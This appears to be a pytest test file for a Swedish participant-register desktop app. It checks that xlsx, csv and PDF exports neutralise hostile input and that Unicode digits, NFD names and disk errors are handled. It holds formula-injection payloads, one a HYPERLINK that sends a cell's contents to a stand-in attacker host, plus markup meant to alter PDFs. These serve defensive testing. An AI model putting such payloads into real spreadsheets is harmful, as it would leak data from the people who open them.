"""Hostile and odd input (issue 18): formula injection in every xlsx/csv writer, markup in PDFs,
digits that are not 0–9, NFD names, odd paths and states, and the one atomic writer.

Every test here failed before the fix it guards (see docs/hotmodell.md)."""

from __future__ import annotations

import errno
import json
import logging
import re
import unicodedata
from datetime import date, timedelta
from pathlib import Path
from types import SimpleNamespace

import pytest
import sqlalchemy as sa
from openpyxl import load_workbook

from ame_desktop.domain import dates, names, rules
from ame_desktop.domain import personnummer as pnr
from ame_desktop.domain.errors import AmeError, UserError, ValidationError
from ame_desktop.io.cells import csv_field, needs_guard, safe_cell, save_workbook
from ame_desktop.io.files import OutputError, atomic_output
from ame_desktop.services import activity_requirement as ar
from ame_desktop.services import attendance as att
from ame_desktop.services import enrollments as es
from ame_desktop.services import participants as ps
from ame_desktop.services import staff as staff_service

ROOT = Path(__file__).resolve().parent.parent
FORMULA_NAME = '=HYPERLINK("http://angripare.example/?q="&A1,"Klicka")'
PLUS_NAME = "+1-1"
AT_STAFF = "@SUM(1+1)"
TAB_TEXT = "\t=1+1"
MINUS_ACTIVITY = "-2+3 Kurs"
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


# --- helpers --------------------------------------------------------------------------------
def cells_of(path: Path):
    wb = load_workbook(path)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                yield ws.title, c


def assert_no_live_formula(path: Path, must_contain: tuple[str, ...] = ()) -> None:
    """No formula cell at all; every text cell that starts like a formula is a string cell with
    quotePrefix and its value unchanged; each text in `must_contain` is there exactly."""
    seen: set[str] = set()
    for title, c in cells_of(path):
        assert c.data_type != "f", (path.name, title, c.coordinate, c.value)
        if isinstance(c.value, str):
            seen.add(c.value)
            if c.value.startswith(DANGEROUS):
                assert c.data_type == "s" and c.quotePrefix, (path.name, title, c.coordinate, c.value)
    for text in must_contain:
        assert any(text in v for v in seen), (path.name, text)


@pytest.fixture
def hostile(db):
    """The demo register, then every participant, staff member and activity renamed to text a
    spreadsheet would run (as if typed or imported before this fix)."""
    from ame_desktop.services.demo import make_demo

    with db.transaction() as s:
        make_demo(s, participants_count=12, seed=3)
    with db.engine.begin() as conn:
        conn.execute(sa.text("UPDATE participant SET first_name = :f, last_name = :l"),
                     {"f": FORMULA_NAME, "l": PLUS_NAME})
        conn.execute(sa.text("UPDATE staff_member SET name = :n || CAST(id AS VARCHAR(10))"), {"n": AT_STAFF})
        conn.execute(sa.text("UPDATE activity SET name = :n || CAST(id AS VARCHAR(10)) WHERE is_category = :f"),
                     {"n": MINUS_ACTIVITY, "f": False})
        number = conn.execute(sa.text("SELECT personnummer FROM participant ORDER BY id")).scalars().first()
    return {"personnummer": number}


# --- 1. formula injection -------------------------------------------------------------------
def test_cells_helper_touches_text_only():
    assert [needs_guard(v) for v in ("=1", "+1", "-1", "@A", "\tx", "\rx", "a=1", "", -5, 3.5, None)] == \
        [True] * 6 + [False] * 5
    assert csv_field("=1+1") == "'=1+1" and csv_field("-5") == "'-5" and csv_field("Åke") == "Åke"
    assert csv_field(-5) == -5 and csv_field(-2.5) == -2.5 and csv_field(None) is None


def test_save_workbook_writes_formula_text_as_text(tmp_path):
    from openpyxl import Workbook

    wb = Workbook()
    wb.active.append([FORMULA_NAME, PLUS_NAME, AT_STAFF, TAB_TEXT, "\rx", -5, -2.5, "vanlig text"])
    save_workbook(wb, tmp_path / "a.xlsx")
    row = [c for c in load_workbook(tmp_path / "a.xlsx").active[1]]
    # (XML reads a carriage return back as a line feed: the text stays text either way)
    assert [c.value for c in row] == [FORMULA_NAME, PLUS_NAME, AT_STAFF, TAB_TEXT, "\nx", -5, -2.5, "vanlig text"]
    assert [c.data_type for c in row] == ["s"] * 5 + ["n", "n", "s"]
    assert [c.quotePrefix for c in row] == [True] * 5 + [False] * 3
    # write-only sheets (the activity report) wrap their values
    wo = Workbook(write_only=True)
    ws = wo.create_sheet("x")
    ws.append([safe_cell(ws, v) for v in (FORMULA_NAME, -5, "ok")])
    save_workbook(wo, tmp_path / "b.xlsx")
    row = [c for c in load_workbook(tmp_path / "b.xlsx")["x"][1]]
    assert [(c.value, c.data_type) for c in row] == [(FORMULA_NAME, "s"), (-5, "n"), ("ok", "s")]


def test_every_cli_export_writes_names_as_text(cli, hostile, tmp_path):
    """Kolada (Kontroll), activity report, AF contacts (also pseudonymous: the Handledare name),
    register extract, template, in xlsx; nothing anywhere is a live formula."""
    year = date.today().year
    runs = {
        "kolada.xlsx": ["export", "kolada", "--year", str(year)],
        "aktivitet.xlsx": ["report", "activity", "--month", f"{date.today():%Y-%m}"],
        "af.xlsx": ["export", "af-contacts", "--from", f"{year - 1}-01-01", "--to", f"{year}-12-31"],
        "af-pseudo.xlsx": ["export", "af-contacts", "--from", f"{year - 1}-01-01", "--to", f"{year}-12-31",
                           "--pseudonymous"],
        "utdrag.xlsx": ["extract", hostile["personnummer"]],
    }
    for name, args in runs.items():
        r = cli(*args, "--out", str(tmp_path / name))
        assert r.code == 0, (name, r)
    r = cli("template", str(tmp_path / "mall.xlsx"))
    assert r.code == 0, r
    full = FORMULA_NAME + " " + PLUS_NAME
    assert_no_live_formula(tmp_path / "kolada.xlsx", (FORMULA_NAME,))
    assert_no_live_formula(tmp_path / "af.xlsx", (FORMULA_NAME, AT_STAFF))
    assert_no_live_formula(tmp_path / "af-pseudo.xlsx", (AT_STAFF,))
    assert_no_live_formula(tmp_path / "utdrag.xlsx", (FORMULA_NAME, PLUS_NAME))
    assert_no_live_formula(tmp_path / "mall.xlsx", (MINUS_ACTIVITY,))
    assert_no_live_formula(tmp_path / "aktivitet.xlsx")
    # The pseudonymous file has no participant name, but the coach's name is there as text.
    values = [c.value for _t, c in cells_of(tmp_path / "af-pseudo.xlsx")]
    assert not any(isinstance(v, str) and FORMULA_NAME in v for v in values)
    assert any(isinstance(v, str) and v.startswith(AT_STAFF) for v in values)
    kontroll = [c for t, c in cells_of(tmp_path / "kolada.xlsx") if t == "Kontroll" and c.value == full]
    assert kontroll and all(c.data_type == "s" and c.quotePrefix for c in kontroll)


def test_activity_report_xlsx_names_and_activities_as_text(cli, db, tmp_path):
    with db.transaction() as s:
        a = ar.add_activity(s, MINUS_ACTIVITY, 1).id
        pid = ps.create_participant(s, ps.ParticipantInput("198503141239", FORMULA_NAME, PLUS_NAME)).id
        es.add_enrollment(s, pid, "2026-01-01")
        ar.add_period(s, pid, "2026-01-01", None, 40)
        att.save_cells(s, {att.CellKey(pid, a, date(2026, 6, 2)): att.Cell(8, None),
                           att.CellKey(pid, a, date(2026, 6, 3)): att.Cell(4, "OGILTIG")}, today=date(2026, 11, 20))
    out = tmp_path / "juni.xlsx"
    r = cli("report", "activity", "--month", "2026-06", "--out", str(out))
    assert r.code == 0, r
    assert_no_live_formula(out, (FORMULA_NAME, MINUS_ACTIVITY))


def test_audit_review_steps_and_compare_exports(db, tmp_path):
    from ame_desktop.domain.actor import ROLE_ADMIN, Actor
    from ame_desktop.io.compare_export import write_comparison
    from ame_desktop.io.steps_export import write_steps_summary
    from ame_desktop.services import kolada_client as kc
    from ame_desktop.services import kolada_compare as cmp
    from ame_desktop.services.steps import GROUP_TOTAL, GroupFigures, StepSummary

    db.actor = Actor(name=FORMULA_NAME, role=ROLE_ADMIN)  # an account name as the log records it
    with db.transaction() as s:
        ps.create_participant(s, ps.ParticipantInput("198503141239", "Ida", PLUS_NAME))
    today = date.today()
    from ame_desktop.services import exports

    out = exports.audit_review(db, today.year, today.month, tmp_path / "granskning.xlsx")
    assert_no_live_formula(out, (FORMULA_NAME,))

    summary = StepSummary(date(2026, 1, 1), date(2026, 6, 30), [GroupFigures(GROUP_TOTAL, None, AT_STAFF, 3, 2, 1)])
    assert_no_live_formula(write_steps_summary(summary, tmp_path / "steg.xlsx", unit_name=PLUS_NAME), (PLUS_NAME,))

    with db.transaction() as s:
        kc.import_response_file(s, ROOT / "tests" / "fixtures" / "kolada_sample.json")
    with db.reading() as s:
        c = cmp.compare(s, "0860", ["U40455"], [2024, 2025], today=today)
    c.municipality_name = FORMULA_NAME  # names come from Kolada: outside data
    assert_no_live_formula(write_comparison(c, tmp_path / "jamforelse.xlsx"), (FORMULA_NAME,))


def test_csv_fields_get_a_quote_numbers_stay_numbers(tmp_path):
    import csv

    from ame_desktop.io.eb_list import write_eb_list

    row = SimpleNamespace(personnummer="198503141239", municipality_code="0860", municipality=FORMULA_NAME,
                          start=date(2026, 6, 1), end=date(2026, 6, 30), measures="-1 kurs", participant_id=1)
    out = write_eb_list(SimpleNamespace(label="2026-06", rows=[row]), tmp_path / "lista.csv")
    rows = list(csv.reader(out.read_text(encoding="utf-8-sig").splitlines(), delimiter=";"))
    assert rows[1] == ["2026-06", "198503141239", "0860", "'" + FORMULA_NAME, "2026-06-01", "2026-06-30",
                       "'-1 kurs"]


def test_kolada_csv_keeps_negative_and_decimal_numbers(db, tmp_path):
    from ame_desktop.io import kolada_export as ke

    assert ke._csv_cell(-2.5) == "-2,5" and ke._csv_cell(-3) == "-3" and ke._csv_cell("=1") == "'=1"


def test_no_writer_bypasses_the_shared_places():
    """Every xlsx is saved through io/cells.save_workbook, every file moved into place by
    io/files.atomic_output, every PDF built by io/pdf_common.build_pdf (new writers too)."""
    offenders = []
    for path in sorted((ROOT / "ame_desktop").rglob("*.py")):
        rel = path.relative_to(ROOT).as_posix()
        text = path.read_text(encoding="utf-8")
        # config.py: rotating the log at start (a rename of our own log, not a written output).
        if rel not in ("ame_desktop/io/files.py", "ame_desktop/store/backup.py", "ame_desktop/config.py") \
                and "os.replace(" in text:
            offenders.append((rel, "os.replace"))
        if rel != "ame_desktop/io/cells.py" and re.search(r"\bwb\.save\(|\bworkbook\.save\(", text):
            offenders.append((rel, "wb.save"))
        if rel != "ame_desktop/io/pdf_common.py" and re.search(r"\bdoc\.build\(", text):
            offenders.append((rel, "doc.build"))
        if rel.startswith("ame_desktop/io/") and "csv.writer(" in text and "csv_field" not in text:
            offenders.append((rel, "csv without csv_field"))
    assert offenders == []


# --- 2. markup in PDFs and labels ------------------------------------------------------------
def _pdf_text(path: Path) -> tuple[str, int]:
    from pypdf import PdfReader

    reader = PdfReader(str(path))
    text = "\n".join(page.extract_text() or "" for page in reader.pages)
    images = sum(len(page.images) for page in reader.pages)
    return text, images


def _png(path: Path) -> Path:
    import struct
    import zlib

    raw = b"".join(b"\x00" + b"\xff\x00\x00" * 8 for _ in range(8))
    chunk = lambda kind, data: (struct.pack(">I", len(data)) + kind + data  # noqa: E731
                                + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF))
    path.write_bytes(b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 8, 8, 8, 2, 0, 0, 0))
                     + chunk(b"IDAT", zlib.compress(raw)) + chunk(b"IEND", b""))
    return path


def test_activity_report_pdf_prints_markup_as_written(cli, db, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    _png(tmp_path / "bild.png")
    first, last = "<b>Fet</b> <font color='red' size='30'>Röd</font>", '<img src="bild.png" width="300" height="300"/>'
    with db.transaction() as s:
        kurs = ar.add_activity(s, "Kurs <A>", 1).id
        other = ar.add_activity(s, "<font size=40>Stor</font> & <i>kursiv", 2).id
        pid = ps.create_participant(s, ps.ParticipantInput("198503141239", first, last)).id
        es.add_enrollment(s, pid, "2026-01-01")
        ar.add_period(s, pid, "2026-01-01", None, 30, reduction_reason="<a href='http://x'>länk</a> nedsatt")
        att.save_cells(s, {att.CellKey(pid, kurs, date(2026, 6, 2)): att.Cell(4, "OGILTIG"),
                           att.CellKey(pid, other, date(2026, 6, 3)): att.Cell(4, "SJUK")}, today=date(2026, 11, 20))
    out = tmp_path / "juni.pdf"
    r = cli("report", "activity", "--month", "2026-06", "--out", str(out))
    assert r.code == 0, r  # "Kurs <A>" made the report fail before
    text, images = _pdf_text(out)
    flat = " ".join(text.split())
    assert "Kurs <A>" in flat and "<font size=40>Stor</font> & <i>kursiv" in flat
    assert "<b>Fet</b>" in flat and "<img src=" in flat
    assert images == 0  # the local image was not embedded


def test_register_extract_and_af_pdf_escape_names(cli, hostile, db, tmp_path):
    with db.engine.begin() as conn:
        conn.execute(sa.text("UPDATE participant SET first_name = :f"), {"f": "Kurs <A> <b>x"})
        conn.execute(sa.text("UPDATE staff_member SET name = :n || CAST(id AS VARCHAR(10))"), {"n": "<font size=40>"})
    r = cli("extract", hostile["personnummer"], "--out", str(tmp_path / "utdrag.pdf"))
    assert r.code == 0, r
    assert "Kurs <A> <b>x" in " ".join(_pdf_text(tmp_path / "utdrag.pdf")[0].split())
    year = date.today().year
    for extra in ([], ["--pseudonymous"]):
        out = tmp_path / f"af{len(extra)}.pdf"
        r = cli("export", "af-contacts", "--from", f"{year - 1}-01-01", "--to", f"{year}-12-31", "--out", str(out),
                *extra)
        assert r.code == 0, r
        assert "<font size=40>" in " ".join(_pdf_text(out)[0].split())


def test_a_failing_paragraph_never_puts_names_in_the_message_or_the_log(tmp_path, monkeypatch):
    from reportlab.platypus import Paragraph, SimpleDocTemplate

    from ame_desktop import config
    from ame_desktop.io.pdf_common import PdfError, build_pdf, esc, styles

    secret = "Åke Ärlig har diabetes"
    assert esc("Kurs <A> & \"b\"") == "Kurs &lt;A&gt; &amp; &quot;b&quot;"
    doc = SimpleDocTemplate(str(tmp_path / "x.pdf"))
    with pytest.raises(PdfError) as e:
        build_pdf(doc, lambda: [Paragraph(f"<b>{secret} <A>", styles()["body"])])  # unescaped on purpose
    assert "Åke" not in e.value.message and e.value.exit_status == 1
    # The log: a traceback says where, never what (the exception's message is not written).
    log_file = tmp_path / "ame.log"
    monkeypatch.setenv("AME_LOG_FILE", str(log_file))
    config.setup_logging()
    try:
        raise ValueError(f"paraparser: syntax error: {secret} 198503141239")
    except ValueError:
        logging.getLogger("ame_desktop.test").exception("a report failed")
    for h in logging.getLogger().handlers:
        h.flush()
    text = log_file.read_text(encoding="utf-8")
    assert "ValueError" in text and "test_hostile_input.py" in text
    assert "Åke" not in text and "diabetes" not in text and "198503141239" not in text


def test_cli_bug_with_personal_data_in_the_message_keeps_it_out_of_the_log(cli, db, tmp_path, monkeypatch):
    import ame_desktop.io.activity_report as report_io

    secret = "Åke Ärlig, sjukskriven"

    def broken(*_a, **_k):
        raise KeyError(secret)

    monkeypatch.setattr(report_io, "_xlsx", broken)
    r = cli("report", "activity", "--month", "2026-06", "--out", str(tmp_path / "r.xlsx"))
    assert r.code == 1 and "Traceback" not in r.err and "KeyError" in r.err
    for h in logging.getLogger().handlers:
        h.flush()
    from ame_desktop import config

    log = Path(config.os.environ["AME_LOG_FILE"]).read_text(encoding="utf-8")
    assert "KeyError" in log and "Åke" not in log and "sjukskriven" not in log
    assert not list(tmp_path.glob("*.tmp"))


# --- 3. digits that are not 0–9 --------------------------------------------------------------
FULLWIDTH = "１９８５０３１４１２３９"
ARABIC_INDIC = "١٩٨٥٠٣١٤١٢٣٩"


def test_personnummer_accepts_only_what_nfkc_makes_0_to_9():
    assert pnr.normalize(FULLWIDTH) == "198503141239"
    assert pnr.normalize("１９８５０３１４－１２３９") == "198503141239"
    assert pnr.normalize("８５０３１４-１２３９") == "198503141239"
    for text in (ARABIC_INDIC, "19850314123٩", "१९८५०३१४१२३९", "19850314\u06f1239"):
        with pytest.raises(ValidationError) as e:
            pnr.normalize(text)
        assert "0–9" in e.value.errors[0].message
    assert pnr.search_digits("１９８５０３") == "198503" and pnr.search_digits("١٩٨٥") is None
    for d in (pnr.normalize(FULLWIDTH),):
        assert d.isascii() and d.isdigit()


def test_hours_and_dates_in_other_digits():
    assert rules.quarter_hours("７,５", low=0, high=24) == 7.5
    assert dates.parse_date("２０２６-０６-０１") == date(2026, 6, 1)
    with pytest.raises(ValueError, match="0–9"):
        rules.quarter_hours("٧", low=0, high=24)
    with pytest.raises(ValueError, match="0–9"):
        dates.parse_date("٢٠٢٦-٠٦-٠١")
    with pytest.raises(ValueError):
        dates.parse_date("2026-0६-01")


def test_one_person_whatever_digits_the_number_is_typed_in(db):
    with db.transaction() as s:
        ps.create_participant(s, ps.ParticipantInput("198503141239", "Åke", "Ärlig"))
    with pytest.raises(UserError):
        with db.transaction() as s:
            ps.create_participant(s, ps.ParticipantInput(FULLWIDTH, "Åke", "Ärlig"))
    with pytest.raises(ValidationError):
        with db.transaction() as s:
            ps.create_participant(s, ps.ParticipantInput(ARABIC_INDIC, "Åke", "Ärlig"))
    with db.reading() as s:
        stored = list(s.execute(sa.text("SELECT personnummer FROM participant")).scalars())
    assert stored == ["198503141239"]


def test_import_stores_ascii_and_refuses_other_scripts(cli, db, tmp_path):
    from tests.workbooks import HEADERS, write_workbook

    book = write_workbook(tmp_path / "in.xlsx", {"Deltagare": [HEADERS["Deltagare"][:3],
                                                               [FULLWIDTH, "Åke", "Ärlig"]]})
    r = cli("import", str(book))
    assert r.code == 0, r
    bad = write_workbook(tmp_path / "bad.xlsx", {"Deltagare": [HEADERS["Deltagare"][:3],
                                                              ["199001012385", "Ida", "Ek"],
                                                              [ARABIC_INDIC, "Åke", "Ärlig"]]})
    r = cli("import", str(bad))
    assert r.code == 2 and "Deltagare, rad 3" in r.err and "0–9" in r.err
    with db.reading() as s:
        assert list(s.execute(sa.text("SELECT personnummer FROM participant")).scalars()) == ["198503141239"]


def test_check_finds_old_rows_with_other_digits_and_nfd_names(cli, db):
    with db.transaction() as s:
        ps.create_participant(s, ps.ParticipantInput("198503141239", "Åke", "Ärlig"))
    assert cli("check").code == 0
    with db.engine.begin() as conn:  # as an older version stored them
        conn.execute(sa.text("UPDATE participant SET personnummer = :p, first_name = :f"),
                     {"p": FULLWIDTH, "f": unicodedata.normalize("NFD", "Åke")})
    r = cli("check")
    assert r.code != 0
    assert "tolv siffror 0–9" in r.out + r.err and "NFC" in r.out + r.err
    assert FULLWIDTH not in r.out + r.err  # ids, not the numbers


# --- 4. NFC ---------------------------------------------------------------------------------
def test_nfd_and_nfc_are_one_name_on_write_and_in_search(db):
    from ame_desktop.services import participant_list as pl

    nfd_first, nfd_last = (unicodedata.normalize("NFD", t) for t in ("Åke", "Ärlig"))
    assert nfd_first != "Åke"
    with db.transaction() as s:
        p = ps.create_participant(s, ps.ParticipantInput("198503141239", nfd_first, nfd_last))
        assert (p.first_name, p.last_name) == ("Åke", "Ärlig")
        staff_service.add_staff(s, unicodedata.normalize("NFD", "Åsa Öst"))
    with pytest.raises(ValidationError, match="finns redan"):
        with db.transaction() as s:
            staff_service.add_staff(s, "Åsa Öst")
    with pytest.raises(ValidationError, match="finns redan"):
        with db.transaction() as s:
            ar.add_activity(s, "Språkcafé", 2)
            ar.add_activity(s, unicodedata.normalize("NFD", "Språkcafé"), 2)
    with db.reading() as s:
        for query in ("åke ärlig", unicodedata.normalize("NFD", "ÅKE"), "Ärlig, Åke"):
            assert pl.matching_ids(s, pl.ListFilter(text=query)) == [p.id], query
        row = s.execute(sa.text("SELECT first_name, search_name FROM participant")).one()
    assert all(unicodedata.is_normalized("NFC", v) for v in row)
    assert names.fold("ÅKE") == names.fold(unicodedata.normalize("NFD", "åke"))


def test_import_matches_a_coach_typed_in_another_form(cli, db, tmp_path):
    from tests.workbooks import HEADERS, write_workbook

    with db.transaction() as s:
        staff_service.add_staff(s, "Åsa Öst")
    header = HEADERS["Deltagare"]
    row = [""] * len(header)
    row[:3] = ["198503141239", "Åke", "Ärlig"]
    row[header.index("Handledare")] = unicodedata.normalize("NFD", "Åsa Öst")
    r = cli("import", str(write_workbook(tmp_path / "in.xlsx", {"Deltagare": [header, row]})))
    assert r.code == 0 and "Nya handledare" not in r.out, r
    with db.reading() as s:
        assert s.execute(sa.text("SELECT count(*) FROM staff_member")).scalar_one() == 1


def test_a_thousand_word_search_is_a_message(db):
    from ame_desktop.services import participant_list as pl

    with db.reading() as s:
        with pytest.raises(ValidationError, match="högst"):
            pl.matching_ids(s, pl.ListFilter(text=" ".join(f"ord{i}" for i in range(1000))))
        # the same word a thousand times is one word
        assert pl.matching_ids(s, pl.ListFilter(text=" ".join(["åke"] * 1000))) == []


# --- 6. odd paths and states ----------------------------------------------------------------
def test_percent_twenty_is_not_a_space(cli, tmp_path):
    from ame_desktop.store.database import Database, resolve_url

    spaced, encoded = tmp_path / "a b.db", tmp_path / "a%20b.db"
    assert cli("demo", "--participants", "3", db=spaced).code == 0
    people = json.loads(cli("stats", db=spaced).out)["participants"]
    r = cli("stats", db=encoded)
    assert r.code == 0 and json.loads(r.out)["participants"] == 0 and people > 0
    assert encoded.exists() and json.loads(cli("stats", db=spaced).out)["participants"] == people
    for name in ("a%20b.db", "a?mode=ro.db", "a#b.db", "å+%2F.db"):
        db = Database(resolve_url(str(tmp_path / name)))
        assert db.sqlite_path == (tmp_path / name).resolve(), name
        db.dispose()


def test_read_only_register_is_a_swedish_message(cli, db, monkeypatch):
    import sqlite3

    from ame_desktop.store.database import translate_db_error

    err = translate_db_error(sa.exc.OperationalError("UPDATE x", {}, sqlite3.OperationalError(
        "attempt to write a readonly database")))
    assert "skrivskyddad" in err.message and err.exit_status == 1


def test_read_only_register_on_disk(cli, db_path, tmp_path):
    import shutil
    import subprocess

    if shutil.which("chattr") is None:
        pytest.skip("chattr saknas")
    assert cli("demo", "--participants", "2", db=db_path).code == 0
    for p in db_path.parent.glob(db_path.name + "*"):
        if p.suffix in ("-wal", "-shm"):
            p.unlink()
    if subprocess.run(["chattr", "+i", str(db_path)], capture_output=True).returncode != 0:
        pytest.skip("the file system does not support chattr +i")
    try:
        r = cli("settings", "unit_name", "Ny enhet", db=db_path)
        assert r.code in (1, 2) and "Traceback" not in r.err
        assert "skrivskyddad" in r.err or "går inte att öppna" in r.err, r
    finally:
        subprocess.run(["chattr", "-i", str(db_path)])


def test_disk_full_while_exporting_xlsx_is_exit_1_without_traceback(cli, hostile, tmp_path, monkeypatch):
    from openpyxl import Workbook

    old = tmp_path / "k.xlsx"
    old.write_bytes(b"gammal fil")

    def full(self, filename):
        Path(filename).write_bytes(b"halv")
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(Workbook, "save", full)
    r = cli("export", "kolada", "--year", str(date.today().year), "--out", str(old))
    assert r.code == 1 and "disken är full" in r.err and "Traceback" not in r.err, r
    assert old.read_bytes() == b"gammal fil" and sorted(p.name for p in tmp_path.iterdir()
                                                         if not p.name.startswith("ame.db")) == ["k.xlsx"]


def test_atomic_output_messages_and_cleanup(tmp_path, monkeypatch):
    import os

    target = tmp_path / "ut.xlsx"
    target.write_text("gammal")

    def fails(exc):
        def write(tmp: Path):
            tmp.write_text("halv")
            raise exc
        return write

    with pytest.raises(OutputError, match="disken är full"):
        atomic_output(target, [".xlsx"], fails(OSError(errno.ENOSPC, "full")))
    with pytest.raises(KeyboardInterrupt):
        atomic_output(target, [".xlsx"], fails(KeyboardInterrupt()))
    with pytest.raises(UserError, match="Excel"):  # Windows: the file is open in Excel
        atomic_output(target, [".xlsx"], fails(PermissionError(errno.EACCES, "denied")))
    monkeypatch.setattr(os, "access", lambda *_a: False)
    with pytest.raises(UserError, match="skrivskyddad"):  # a read-only folder
        atomic_output(target, [".xlsx"], fails(PermissionError(errno.EACCES, "denied")))
    monkeypatch.undo()
    with pytest.raises(UserError, match="skrivskyddad"):
        atomic_output(target, [".xlsx"], fails(OSError(errno.EROFS, "ro")))
    assert target.read_text() == "gammal" and [p.name for p in tmp_path.iterdir()] == ["ut.xlsx"]
    with pytest.raises(UserError, match=r"\.xlsx"):
        atomic_output(tmp_path / "ut.exe", [".xlsx"], lambda tmp: tmp.write_text("x"))
    with pytest.raises(UserError, match="finns inte"):
        atomic_output(tmp_path / "saknas" / "ut.xlsx", [".xlsx"], lambda tmp: tmp.write_text("x"), make_folder=False)
    with pytest.raises(UserError, match="mapp"):
        atomic_output(tmp_path, None, lambda tmp: tmp.write_text("x"))
    assert atomic_output(tmp_path / "ny" / "ut.xlsx", [".xlsx"], lambda tmp: tmp.write_text("ny")).read_text() == "ny"
    assert not list(tmp_path.rglob("*.tmp"))
    assert isinstance(OutputError("x"), AmeError) and not isinstance(OutputError("x"), UserError)


def test_atomic_output_as_picks_the_writer_by_extension(tmp_path):
    from ame_desktop.io.files import atomic_output_as

    writers = {".xlsx": lambda tmp: tmp.write_text("arbetsbok"), ".csv": lambda tmp: tmp.write_text("rader")}
    assert atomic_output_as(tmp_path / "lista.CSV", writers, what="Listan").read_text() == "rader"
    assert atomic_output_as(tmp_path / "lista.xlsx", writers).read_text() == "arbetsbok"
    with pytest.raises(UserError, match=r"^Listan kan skrivas som \.xlsx eller \.csv – inte ”\.pdf”\.$"):
        atomic_output_as(tmp_path / "lista.pdf", writers, what="Listan")

    def full(tmp: Path):
        tmp.write_text("halv")
        raise OSError(errno.ENOSPC, "full")

    with pytest.raises(OutputError, match="disken är full"):
        atomic_output_as(tmp_path / "lista.csv", {".csv": full})
    with pytest.raises(OutputError, match="disken är full"):  # the earlier file is kept, no .tmp is left
        atomic_output_as(tmp_path / "lista.xlsx", {".xlsx": full})
    assert (tmp_path / "lista.xlsx").read_text() == "arbetsbok"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["lista.CSV", "lista.xlsx"]


def test_deeply_nested_kolada_file_is_exit_2(cli, db, tmp_path):
    for name, text in (("djup.json", "[" * 200_000 + "]" * 200_000),
                       ("djup2.json", '{"values":' * 100_000 + "1" + "}" * 100_000)):
        path = tmp_path / name
        path.write_text(text)
        r = cli("kolada-fetch", "--from-file", str(path))
        assert r.code == 2 and "nästlad" in r.err and "Traceback" not in r.err, r


def test_disk_full_in_the_pdf_plan_path_cleans_up(db, tmp_path, monkeypatch):
    """The plan printer moves its PDF into place through the same writer."""
    from ame_desktop.services import plans

    calls = []

    def fake_write_plans(snapshots, path, document_ids=None, on_plan=None):
        Path(path).write_bytes(b"%PDF-halv")
        calls.append(path)
        raise OSError(errno.ENOSPC, "full")

    monkeypatch.setattr("ame_desktop.io.plan_pdf.write_plans", fake_write_plans)
    with pytest.raises(OutputError):
        plans._render_atomically([{}], ["a" * 64], tmp_path / "plan.pdf")
    assert calls and not list(tmp_path.glob("plan.pdf*"))


def test_a_username_in_nfd_is_the_same_account(db):
    from ame_desktop.domain.actor import ROLE_ADMIN
    from ame_desktop.services import accounts

    nfd = unicodedata.normalize("NFD", "åsa")
    with db.transaction() as s:
        accounts.create_account(s, "Åsa Öst", nfd, "ett långt lösenord 1", ROLE_ADMIN)
    with db.transaction() as s:
        assert accounts.sign_in(s, "åsa", "ett långt lösenord 1").name == "åsa"
    with pytest.raises(ValidationError, match="finns redan"):
        with db.transaction() as s:
            accounts.create_account(s, "Åsa Två", "åsa", "ett långt lösenord 2", ROLE_ADMIN)
